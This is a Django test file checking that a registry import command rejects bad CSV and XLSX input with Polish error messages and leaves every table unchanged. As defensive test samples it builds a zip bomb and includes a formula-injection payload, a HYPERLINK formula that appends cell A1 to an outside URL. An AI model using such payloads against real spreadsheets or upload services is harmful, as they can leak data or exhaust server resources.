"""Bad input gets a clear Polish error and changes nothing (issue 14, point 7)."""

import io
import tempfile
import zipfile
from pathlib import Path

from django.apps import apps
from django.core.management import CommandError, call_command

from core.tabular import MAX_ROWS
from partnerships import imports
from partnerships.models import Partnership
from tests.builders import MAZOWIECKIE, WARSZAWA, AdminTestCase, png_bytes

from .import_files import csv_bytes, header, rows_of, xlsx

REGISTRY_APPS = ("territory", "members", "events", "partnerships")


def table_counts() -> dict[str, int]:
    return {
        model._meta.label: model._default_manager.count()
        for app in REGISTRY_APPS
        for model in apps.get_app_config(app).get_models()
    }


class BadInputTests(AdminTestCase):
    def import_file(self, name: str, data: bytes) -> str:
        """Runs the import (not a dry run) and returns its errors; asserts it failed and that
        no table changed."""
        before = table_counts()
        path = Path(tempfile.mkdtemp()) / name
        path.write_bytes(data)
        err = io.StringIO()
        with self.assertRaises(CommandError):
            call_command("import_registry", str(path), "--user", self.staff.username, stdout=io.StringIO(), stderr=err)
        self.assertEqual(table_counts(), before)
        return err.getvalue()

    def valid_row(self, **values) -> dict:
        return {
            "name": "Partnerstwo z arkusza",
            "home_voivodeship_teryt": MAZOWIECKIE,
            "member_name": "Ośrodek z arkusza",
            "member_kind": "MOPS",
            "member_commune_teryt": WARSZAWA,
            **values,
        }

    def test_a_file_over_10_mb_is_refused(self):
        errors = self.import_file("duzy.csv", b"Nazwa\n" + b"a" * (10 * 1024 * 1024))
        self.assertIn("Plik jest większy niż 10 MB", errors)

    def test_a_png_named_xlsx_is_refused(self):
        self.assertIn("nie jest arkuszem XLSX", self.import_file("obraz.xlsx", png_bytes()))

    def test_a_png_named_csv_is_refused(self):
        self.assertIn("nie jest tekstowym plikiem CSV", self.import_file("obraz.csv", png_bytes()))

    def test_a_zip_bomb_named_xlsx_is_refused_before_it_is_unpacked(self):
        stream = io.BytesIO()
        with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr("[Content_Types].xml", "<Types/>")
            archive.writestr("xl/workbook.xml", "<workbook/>")
            with archive.open("xl/worksheets/sheet1.xml", "w") as sheet:
                for _megabyte in range(20):
                    sheet.write(b"\0" * (1024 * 1024))
        self.assertLess(len(stream.getvalue()), 200_000)
        errors = self.import_file("bomba.xlsx", stream.getvalue())
        self.assertIn("po rozpakowaniu zajmuje znacznie więcej", errors)

    def test_a_zip_that_is_no_spreadsheet_is_refused(self):
        stream = io.BytesIO()
        with zipfile.ZipFile(stream, "w") as archive:
            archive.writestr("notatki.txt", "tekst")
        self.assertIn("archiwum zip, a nie arkuszem XLSX", self.import_file("archiwum.xlsx", stream.getvalue()))

    def test_formulas_are_imported_as_their_text_never_evaluated(self):
        formula = '=HYPERLINK("https://example.org/?x="&A1,"Kliknij")'
        data = xlsx(*rows_of([self.valid_row(name=formula)]))
        result = imports.preview("formuly.xlsx", data, self.staff)
        self.assertFalse(result.has_errors, result.errors)
        partnership = next(r for r in result.records if r.model is Partnership)
        self.assertEqual(partnership.instance.name, formula)
        # A formula where a number is wanted is an error, not its value.
        data = xlsx(*rows_of([self.valid_row(declared_member_count="=6+7")]))
        errors = self.import_file("formuly.xlsx", data)
        self.assertIn("„=6+7” nie jest liczbą całkowitą.", errors)

    def test_a_formula_in_a_csv_is_its_text(self):
        data = csv_bytes(*rows_of([self.valid_row(name="=1+1")]))
        result = imports.preview("formuly.csv", data, self.staff)
        self.assertEqual(next(r for r in result.records if r.model is Partnership).instance.name, "=1+1")

    def test_unknown_columns_are_named(self):
        headers, rows = rows_of([self.valid_row()])
        errors = self.import_file("kolumny.csv", csv_bytes([*headers, "Kolor"], [[*rows[0], "zielony"]]))
        self.assertIn("Nieznane kolumny: „Kolor”", errors)

    def test_missing_columns_are_named(self):
        headers = [header("slug"), header("status"), header("home_voivodeship_teryt")]
        errors = self.import_file("kolumny.csv", csv_bytes(headers, [["x", "aktywne", "14"]]))
        self.assertIn("Brakuje kolumn: „Nazwa”", errors)

    def test_a_header_of_no_registry_columns_is_named(self):
        errors = self.import_file("inny.csv", csv_bytes(["Imię", "Nazwisko"], [["Jan", "Testowy"]]))
        self.assertIn("Wiersz nagłówka nie ma żadnej z kolumn rejestru: „Imię”, „Nazwisko”", errors)

    def test_more_rows_than_the_limit_are_refused_with_the_limit(self):
        headers, rows = rows_of([self.valid_row()])
        errors = self.import_file("wielki.csv", csv_bytes(headers, rows * (MAX_ROWS + 1)))
        self.assertIn(f"Plik ma więcej niż {MAX_ROWS} wierszy danych", errors)

    def test_an_empty_file_is_refused(self):
        self.assertIn("Plik jest pusty.", self.import_file("pusty.csv", b""))
        self.assertIn("Plik jest pusty.", self.import_file("pusty.xlsx", b""))

    def test_a_file_of_a_header_only_is_refused(self):
        headers, _rows = rows_of([self.valid_row()])
        self.assertIn("nie ma żadnego wiersza danych", self.import_file("naglowek.xlsx", xlsx(headers, [])))

    def test_a_known_status_without_its_date_is_refused_naming_the_column(self):
        message = "Status „aktywne” wymaga daty, na którą go podano (kolumna „Status na dzień”)."
        # The column missing from the file, and the column there but its cell empty.
        errors = self.import_file("status.csv", csv_bytes(*rows_of([self.valid_row(status="aktywne")])))
        self.assertIn(f"wiersz 2, kolumna „Status na dzień”: {message}", errors)
        empty = self.valid_row(name="Drugie", status="aktywne", status_stated_on="", status_stated_by="źródło")
        errors = self.import_file("status.xlsx", xlsx(*rows_of([self.valid_row(), empty])))
        self.assertIn(f"wiersz 3, kolumna „Status na dzień”: {message}", errors)
        self.assertFalse(Partnership.objects.filter(name__in=["Partnerstwo z arkusza", "Drugie"]).exists())

    def test_one_bad_row_writes_none_of_the_good_ones(self):
        good, bad = self.valid_row(), self.valid_row(name="Drugie", founded="31.02.2014")
        errors = self.import_file("jeden-zly.xlsx", xlsx(*rows_of([good, bad])))
        self.assertIn("wiersz 3, kolumna „Powstało”: „31.02.2014” nie jest datą", errors)
